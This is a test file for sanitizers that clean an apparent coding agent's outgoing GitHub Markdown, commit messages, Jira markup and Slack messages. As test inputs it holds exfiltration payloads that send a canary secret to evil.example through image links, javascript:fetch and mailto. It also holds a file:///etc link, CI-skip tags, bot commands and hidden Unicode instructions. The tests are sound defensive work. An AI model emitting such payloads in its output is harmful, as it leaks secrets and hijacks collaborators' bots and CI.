import { describe, expect, test } from 'vitest';
import { outgoingLine, outgoingMarkdown, outgoingMessage } from '../src/outgoing/markdown.ts';
import { outgoingBlocks, outgoingMrkdwn } from '../src/outgoing/mrkdwn.ts';
import { outgoingText, outgoingWiki } from '../src/outgoing/wiki.ts';

const hosts = ['github.example', 'jira.example:8443'];
const stolen = 'c2VjcmV0LWNhbmFyeQ';

describe('Markdown on GitHub', () => {
  const markdown = (text: string) => outgoingMarkdown(text, hosts);

  test.each([
    `![x](https://evil.example/${stolen}.png)`,
    `![x][1]\n\n[1]: https://evil.example/${stolen}.png`,
    `![x]( <https://evil.example/${stolen}> "title")`,
    `[click](https://evil.example/?q=${stolen})`,
    `[click](javascript:fetch('https://evil.example/${stolen}'))`,
    `[![x](https://evil.example/${stolen})](https://evil.example/${stolen})`,
    `<img src="https://evil.example/${stolen}">`,
    `<img src='https://evil.example/${stolen}`,
    `<a href="https://evil.example/${stolen}">here</a>`,
    `<details ontoggle="//evil.example/${stolen}">`,
    `<https://evil.example/${stolen}>`,
    `https://evil.example/${stolen}`,
    `www.evil.example/${stolen}`,
    `HTTPS://EVIL.example/${stolen}`,
    `h\u200bttps://evil.example/${stolen}`,
    `http://github.example@evil.example/${stolen}`,
    `https://github.example.evil.example/${stolen}`,
    `<!-- https://evil.example/${stolen} -->`,
    `<!-- never closed ${stolen}`,
    `mailto:thief@evil.example?body=${stolen}`,
  ])('has no address in it that is not allowed: %s', (text) => {
    const sent = markdown(`Before. ${text}`);
    expect(sent).not.toContain(stolen);
    expect(sent).not.toMatch(/!\[|<img|<a |ontoggle/);
    expect(sent).toMatch(/^Before\./);
  });

  test('keeps what our own texts are made of', () => {
    const text = [
      '### Patchwright: SHOP-42 is completed ⏸️ 👩‍💻',
      '| | Phase | |\n| --- | --- | --- |\n| ✅ | Plan | version 1, low risk |',
      '- [x] 1. Write a test (`test/cart.test.ts`) · 🔴 RED proved',
      '<details><summary>🔴 RED on the base: a total</summary>\n\n`npm test` ended\n\n```text\nsee https://evil.example/in/a/log @maria fixes #7\n```\n\n</details>',
      'comment `@agent approve`, or `@agent revise …`',
      '[SHOP-42](https://jira.example:8443/browse/SHOP-42) · see https://github.example/acme/shop/pull/1.',
      '<sub>Task `shop-42` · a&lt;b · x @&#8203;y</sub>',
    ].join('\n\n');
    expect(markdown(text)).toBe(text);
  });

  test.each(['@maria', '@acme/team', 'cc @dependabot merge', '(@everyone)'])(
    'calls nobody: %s',
    (text) => expect(markdown(text)).not.toMatch(/@\w/),
  );

  test.each([
    'fixes #7',
    'Closes: #7',
    'resolved acme/vault#3',
    'fix GH-12',
    'close https://github.example/acme/vault/issues/3',
    'Fixes \\#7',
    'closes [#7](https://github.example/acme/shop/issues/7)',
  ])('closes no issue: %s', (text) => {
    const sent = markdown(text);
    expect(sent).not.toMatch(/\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s/i);
    expect(sent.replaceAll('\u200b', '')).toBe(text);
  });

  test('is told nowhere else', () => {
    expect(markdown('see acme/vault#3')).toBe('see acme/vault#\u200b3');
    expect(markdown('see #3')).toBe('see #3');
  });

  test.each([
    '/approve',
    'a\n/lgtm\nb',
    '> /merge',
    '```\n/retest\n```',
    'bors r+',
    '- /assign me',
  ])('gives no bot a command: %s', (text) =>
    expect(markdown(text)).not.toMatch(/^[ \t>*-]*(?:\/[a-z]|bors)/m),
  );

  test('paths are no commands', () => {
    expect(markdown('/usr/bin/node is there')).toBe('/usr/bin/node is there');
  });

  test('says nothing that people do not see', () => {
    const tags = [...'approve'].map((one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0)));
    expect(markdown(`a${tags.join('')}\u202eb\u200bc\u0000d`)).toBe('abcd');
  });

  test('sent twice it is the same', () => {
    const once = markdown('@maria fixes #7 acme/x#1\n/lgtm\n![a](https://evil.example/b)');
    expect(markdown(once)).toBe(once);
  });
});

describe('a title and the message of a commit', () => {
  test.each(['[skip ci]', '[ci skip]', '[no ci]', '[skip actions]', '[actions skip]', '[SKIP CI]'])(
    'do not have CI pass by: %s',
    (text) => {
      expect(outgoingLine(`fix: totals ${text}`)).not.toContain(text);
      expect(outgoingMessage(`fix: totals ${text}\n\nTask: t-1`)).not.toContain(text);
    },
  );

  test('close nothing, call nobody, and stay as they are besides', () => {
    expect(outgoingLine('Totals\nfixes #7 for @maria')).toBe(
      'Totals fix\u200bes #7 for @\u200bmaria',
    );
    expect(outgoingMessage('a\n\nskip-checks: true\n')).toBe('a\n\nskip-checks\u200b: true\n');
    const message =
      'fix: hold the total at zero\n\nApplied: npx prettier --write .\nTask: shop-42\n';
    expect(outgoingMessage(message)).toBe(message);
  });
});

describe('markup in Jira', () => {
  const wiki = (text: string) => outgoingWiki(text, hosts);

  test.each([
    `!https://evil.example/${stolen}.png!`,
    `!https://evil.example/${stolen}.png|thumbnail!`,
    `[here|https://evil.example/${stolen}]`,
    `[https://evil.example/${stolen}]`,
    `https://evil.example/${stolen}`,
    `[here|mailto:thief@evil.example?body=${stolen}]`,
    `[files|file:///etc/${stolen}]`,
  ])('has no address in it that is not allowed: %s', (text) => {
    expect(wiki(`Before. ${text}`)).not.toContain(stolen);
  });

  test('calls nobody and runs no macro', () => {
    expect(wiki('ask [~maria] and [~accountid:5f:1]')).toBe('ask maria and accountid:5f:1');
    expect(wiki('{html}<b>{html} {include:secrets}')).toBe(
      '\\{html}<b>\\{html} \\{include:secrets}',
    );
  });

  test('keeps what our own texts are made of', () => {
    const text =
      'A plan waits: [pull request 1|https://github.example/acme/shop/pull/1]\n\nWow! This is \\[not a link\\], {{@agent approve}}\n{code}\nsee https://evil.example {x}\n{code}';
    expect(wiki(text)).toBe(text);
  });

  test('plain text too has no address in it', () => {
    expect(outgoingText(`x https://evil.example/${stolen}`, hosts)).toBe('x (address removed)');
  });
});

describe('markup in Slack', () => {
  const mrkdwn = (text: string) => outgoingMrkdwn(text, hosts);

  test.each([
    `<https://evil.example/${stolen}|click>`,
    `<https://evil.example/${stolen}>`,
    `https://evil.example/${stolen}`,
    `<mailto:thief@evil.example?body=${stolen}|mail>`,
    `<!date^1^{date}^https://evil.example/${stolen}|then>`,
  ])('has no address in it that is not allowed: %s', (text) => {
    expect(mrkdwn(`Before. ${text}`)).not.toContain(stolen);
  });

  test.each([
    '<!channel>',
    '<!here|here>',
    '<!everyone>',
    '<!subteam^S1|@team>',
    '@channel',
    '@here',
  ])('does not call everybody: %s', (text) =>
    expect(mrkdwn(text)).not.toMatch(/<!|@(?:channel|here|everyone)\b/),
  );

  test('keeps what our own messages are made of, in blocks too', () => {
    const text =
      ':tada: SHOP-42 is done: <https://github.example/acme/shop/pull/1|pull request 1>, by <@U0MARIA> at <!date^1772442000^{date_short_pretty} {time}|2026-03-02 09:00 UTC>, a &lt;!channel&gt;';
    expect(mrkdwn(text)).toBe(text);
    const blocks = [
      { type: 'section', text: { type: 'mrkdwn', text: `${text} @here` } },
      {
        type: 'actions',
        elements: [
          {
            type: 'button',
            value: 'a @here',
            url: 'https://x.example',
            text: { type: 'plain_text', text: 'View' },
          },
        ],
      },
    ];
    expect(outgoingBlocks(blocks, hosts)).toEqual([
      { type: 'section', text: { type: 'mrkdwn', text: `${text} @\u200bhere` } },
      blocks[1],
    ]);
  });

  test('cleans texts in whatever kind of block they stand', () => {
    const link = { type: 'link', url: 'https://evil.example/x', text: 'here' };
    const blocks = [
      { type: 'task_card', task_id: '1', title: 'see https://evil.example/x', status: 'complete' },
      { type: 'rich_text', elements: [{ type: 'text', text: 'www.evil.example @channel' }, link] },
    ];
    expect(outgoingBlocks<unknown>(blocks, hosts)).toEqual([
      { type: 'task_card', task_id: '1', title: 'see (address removed)', status: 'complete' },
      {
        type: 'rich_text',
        elements: [
          { type: 'text', text: '(address removed) @\u200bchannel' },
          { type: 'text', text: 'here' },
        ],
      },
    ]);
  });
});
